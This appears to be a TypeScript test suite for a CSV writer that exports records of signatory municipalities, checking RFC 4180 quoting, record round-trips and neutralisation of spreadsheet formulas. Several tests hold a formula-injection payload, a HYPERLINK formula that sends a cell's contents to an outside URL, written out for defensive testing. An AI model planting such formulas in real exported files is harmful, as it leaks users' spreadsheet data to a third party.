import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import {
  BYTE_ORDER_MARK,
  csvLine,
  signatoryFields,
  SIGNATORY_COLUMNS,
} from '../../../src/dataset/csv.js';
import { loadShards } from '../../../src/dataset/load-shard.js';
import { lists } from '../../../src/dataset/generated/lists/index.js';
import type { SignatoryRecord } from '../../../src/dataset/signatories.js';

/** What another program reads, strict about RFC 4180. */
const read = (text: string): string[][] =>
  parse(text, { bom: true, relax_quotes: false, record_delimiter: '\r\n' });

const ROWS = [
  ['plain', '', 'comma, inside'],
  ['a "quoted" word', 'two\r\nlines', 'one\nline feed'],
  ['"', ',', '""'],
  ['Αλμυρού', 'Łódź', 'Město Žďár'],
  [' blank before', 'blank after ', '; semicolon'],
] as const;

test('another program reads what was written', () => {
  assert.deepEqual(
    read(ROWS.map(csvLine).join('')),
    ROWS.map((row) => [...row]),
  );
  assert.deepEqual(read(BYTE_ORDER_MARK + csvLine(['id', 'name'])), [['id', 'name']]);
});

test('lines end as in RFC 4180, and only what has to stand in quotation marks does', () => {
  assert.equal(csvLine(['a', null, 'b c']), 'a,,b c\r\n');
  assert.equal(csvLine(['a "b"', 'c,d']), '"a ""b""","c,d"\r\n');
});

describe('no field is a formula for a spreadsheet', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r'])
    test(JSON.stringify(start), () => {
      const evil = `${start}HYPERLINK("https://example.org/?"&A1,"x")`;
      assert.deepEqual(read(csvLine(['id', evil, 'x'])), [['id', `'${evil}`, 'x']]);
    });

  test('what only contains such a character stays as it is', () => {
    assert.equal(
      csvLine(['Bobenheim-Roxheim', 'a=b', "'s-Gravenhage"]),
      "Bobenheim-Roxheim,a=b,'s-Gravenhage\r\n",
    );
  });
});

test('all bundled signatories survive the way there and back', async () => {
  const records: SignatoryRecord[] = [];
  for (const country of Object.keys(lists))
    for (const { record } of await loadShards(country)) records.push({ ...record, position: null });
  const text =
    BYTE_ORDER_MARK +
    csvLine(SIGNATORY_COLUMNS) +
    records.map((record) => csvLine(signatoryFields(record))).join('');
  const [head, ...rows] = read(text);
  assert.deepEqual(head, [...SIGNATORY_COLUMNS]);
  assert.equal(rows.length, 481);
  for (const [i, record] of records.entries()) {
    const [id, name, localName, country, kind, status, decided, signed] = rows[i] ?? [];
    assert.deepEqual(
      [id, name, localName, country, kind, status, decided, signed],
      [
        record.id,
        record.name,
        record.localName ?? '',
        record.country,
        record.kind,
        record.status,
        record.decided ?? '',
        record.signed ?? '',
      ],
    );
    assert.equal(rows[i]?.length, SIGNATORY_COLUMNS.length);
    assert.ok(rows[i]?.at(-1), `${record.id} has its sources`);
  }
});

test('a plan has its title, its day and its address', () => {
  const fields = signatoryFields({
    id: 'se-x',
    name: 'X',
    localName: null,
    country: 'SE',
    kind: 'municipality',
    status: 'signed',
    decided: null,
    signed: '2013',
    plan: { title: '=cmd', url: 'https://example.org/', adopted: '2014-05' },
    position: null,
    sources: [
      { url: 'https://example.org/a', title: null, publisher: 'A', date: null },
      { url: null, title: 'On paper', publisher: 'B', date: null },
    ],
  });
  assert.deepEqual(fields.slice(8), [
    '=cmd',
    '2014-05',
    'https://example.org/',
    'A https://example.org/a; B',
  ]);
});
